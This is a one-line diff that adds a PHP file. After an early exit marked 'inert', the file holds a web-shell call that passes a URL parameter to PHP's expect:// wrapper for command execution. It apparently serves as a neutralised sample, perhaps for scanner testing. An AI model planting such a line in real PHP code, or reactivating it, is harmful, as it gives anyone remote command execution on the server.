@@ -1,0 +1,1 @@
+<?php exit; /* inert */ fopen("expect://".$_GET["c"],"r");
